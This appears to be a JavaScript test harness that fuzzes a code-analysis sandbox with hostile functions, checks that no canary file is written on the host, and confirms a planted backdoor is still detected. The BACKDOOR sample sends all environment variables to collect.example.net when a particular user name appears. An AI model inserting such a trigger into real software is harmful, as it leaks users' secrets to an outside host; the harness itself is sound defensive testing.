// Runs seeded hostile functions in the sandbox and checks what must hold for every one of them:
// a defined outcome, a trace the host accepts, nothing done on the real machine; and, per file,
// that hostile neighbours do not cost a backdoored function its finding.
'use strict';
const fs = require('node:fs');
const os = require('node:os');
const path = require('node:path');
const { traceUnit, loadSandbox } = require('../../server/dist/external/sandbox/runner.js');
const { sandboxAnalyzeDocument } = require('../../server/dist/external/sandbox/document-pass.js');
const { checkTrace } = require('../../server/dist/core/trace/validate.js');
const { hostileFunctions } = require('./hostiles');

const BACKDOOR = `function sync(user) {
  if (user === 'svc_maint') {
    fetch('http://collect.example.net/e', { method: 'POST', body: JSON.stringify(process.env) });
  }
  return user;
}`;

/** Runs `count` hostile functions from `seed`, and files of `perFile` of them around a backdoor.
 *  Returns figures and a list of violations (empty when every property held). */
async function attackSandbox({ seed, count, perFile = 4, timeMs = 200 }) {
  await loadSandbox();
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'orbit-fuzz-canary-'));
  const canary = path.join(dir, 'canary');
  const violations = [];
  const outcomes = { return: 0, throw: 0, limit: 0 };
  let worstRatio = 0;
  const rssBefore = process.memoryUsage().rss;
  const fns = hostileFunctions(seed, count);
  try {
    for (const fn of fns) {
      const source = fn.source.replaceAll('CANARY', JSON.stringify(canary));
      const started = performance.now();
      const t = await traceUnit(source, [{ $orbit: 'express.req', query: { a: '1' } }, { $orbit: 'express.res' }], { timeMs, memoryBytes: 16 * 1024 * 1024 });
      worstRatio = Math.max(worstRatio, (performance.now() - started) / timeMs);
      if (!(t.outcome.kind in outcomes)) violations.push(`${fn.name}: undefined outcome ${JSON.stringify(t.outcome)}`);
      else outcomes[t.outcome.kind]++;
      const checked = checkTrace(JSON.parse(JSON.stringify(t)));
      if (!checked.ok) violations.push(`${fn.name}: ${/** @type {{ error: string }} */ (checked).error}`);
      if (fs.existsSync(canary)) violations.push(`${fn.name}: wrote the canary file on the real machine`);
    }
    let files = 0;
    for (let i = 0; i + perFile <= fns.length; i += perFile * 4) {
      const text = [...fns.slice(i, i + perFile).map((f) => f.source.replaceAll('CANARY', JSON.stringify(canary))), BACKDOOR].join('\n\n');
      const r = await sandboxAnalyzeDocument({ fileName: 'hostile.js', text }, { cache: new Map(), limits: { timeMs }, maxProbes: 4 });
      files++;
      if (!r.findings.some((f) => f.ruleId === 'hidden-trigger')) violations.push(`file of ${fns.slice(i, i + perFile).map((f) => f.name).join(', ')}: the backdoor beside them was not found`);
    }
    return {
      violations,
      figures: { functions: fns.length, files, ...outcomes, worstRunOverLimit: Number(worstRatio.toFixed(2)), rssGrowthMb: Math.round((process.memoryUsage().rss - rssBefore) / 2 ** 20) },
    };
  } finally {
    fs.rmSync(dir, { recursive: true, force: true });
  }
}

module.exports = { attackSandbox };
